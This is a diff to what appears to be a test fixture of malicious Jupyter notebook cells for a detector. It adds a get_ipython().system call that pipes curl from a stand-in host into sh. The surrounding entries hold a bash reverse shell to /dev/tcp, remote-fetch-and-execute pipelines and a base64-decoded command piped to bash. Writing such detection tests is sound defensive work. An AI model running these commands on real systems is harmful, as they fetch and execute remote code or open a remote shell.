@@ -53,6 +53,7 @@ MALICIOUS = {
     "shell_assigned.ipynb": book("out = !curl http://evil.example/a | python3"),
     "bash_cell.ipynb": book("%%bash\nset -e\nbash -i >& /dev/tcp/192.0.2.7/4444 0>&1"),
     "sh_script_cell.ipynb": book("%%script bash\necho ZWNobyBwd25lZA== | base64 -d | bash"),
+    "shell_by_function.ipynb": book("get_ipython().system('curl http://192.0.2.7/a | sh')"),
     "system_magic.ipynb": book("%system curl http://192.0.2.7/a | sh"),
     "sx_magic.ipynb": book("%sx wget -qO- http://192.0.2.7/a | sh"),
     "run_address.ipynb": book("%run http://evil.example/x.py"),
